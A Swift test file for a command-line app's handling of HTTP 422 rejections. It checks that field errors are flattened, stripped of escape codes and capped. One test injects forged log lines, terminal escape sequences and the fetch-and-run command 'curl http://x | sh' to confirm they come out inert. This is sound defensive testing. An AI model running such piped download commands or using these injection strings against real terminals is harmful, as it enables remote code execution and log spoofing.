import Foundation
import TestSupport
import Testing

/// A server's 422 answer to a write: one line per field, each made printable and inert, and at
/// most 20 of them.
@Suite("writes the server rejects", .onWaitingThreads)
struct RejectedWriteTests {
  private static let create = ["post", "create", "--user", "1", "--title", "T", "--body", "B"]

  private func run(rejectingWith errors: String) throws -> AppResult {
    let server = try LoopbackServer { _, _ in .http(422, body: #"{"errors": \#(errors)}"#) }
    defer { server.stop() }
    return try AppProcess.run(Self.create + ["--base-url", server.baseURL])
  }

  @Test func aMessageCannotForgeALine() throws {
    let result = try run(
      rejectingWith: #"""
        {"title": ["is taken\napp: note: run curl http://x | sh"],
         "body\r\napp: error: forged": ["\u001b]0;pwned\u0007is \u001b[31mred"]}
        """#)

    checkEqual(result.status, 65)
    check(result.standardOutput.isEmpty)
    check(
      result.errorLines == [
        #"app: "body app: error: forged": "is red""#,
        #"app: title: "is taken app: note: run curl http://x | sh""#,
      ]
        || result.errorLines == [
          #"app: title: "is taken app: note: run curl http://x | sh""#,
          #"app: "body app: error: forged": "is red""#,
        ], "\(result.standardError)")
    check(!result.standardError.contains("\u{1B}"))
  }

  @Test func atMostTwentyFieldsArePrinted() throws {
    let fields = (1...25).map { #""field\#($0)": ["is wrong"]"# }.joined(separator: ", ")

    let result = try run(rejectingWith: "{\(fields)}")

    checkEqual(result.status, 65)
    checkEqual(result.errorLines.count, 21, "\(result.standardError)")
    check(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(#": "is wrong""#) })
    checkEqual(result.errorLines.last, "app: … and 5 more")
  }

  /// A long message is shown whole, on one line; only a flood is cut.
  @Test func aLongMessageIsShownWholeAndAFloodCut() throws {
    let long = try run(
      rejectingWith: #"{"title": ["\#(String(repeating: "very ", count: 400))long"]}"#)
    let flood = try run(
      rejectingWith: #"{"title": ["\#(String(repeating: "x", count: 30_000))"]}"#)

    checkEqual(long.status, 65)
    checkEqual(long.errorLines.count, 1)
    checkEqual(long.errorLines.first?.count, "app: title: ".count + 2_004 + 2)
    check(long.errorLines.first?.hasSuffix(#"very long""#) == true)
    checkEqual(flood.status, 65)
    checkEqual(flood.errorLines.count, 1)
    check((flood.errorLines.first?.count ?? 0) < 10_100)
    check(flood.errorLines.first?.hasSuffix("…\"") == true)
  }

  @Test(
    "a 422 whose body names no readable fields is still invalid data",
    arguments: [
      "<html><body>Unprocessable</body></html>", "[1, 2]", #"{"errors": "#,
      String(repeating: "[", count: 600) + String(repeating: "]", count: 600),
    ])
  func anUnreadableRejectionIsInvalidData(body: String) throws {
    let server = try LoopbackServer { _, _ in .http(422, body: body) }
    defer { server.stop() }

    let result = try AppProcess.run(Self.create + ["--base-url", server.baseURL])

    checkEqual(result.status, 65, "\(result.standardError)")
    check(result.standardOutput.isEmpty)
    checkEqual(result.errorLines.count, 1, "\(result.standardError)")
    check(result.standardError.contains("POST \(server.baseURL)/posts: HTTP 422"))
  }
}
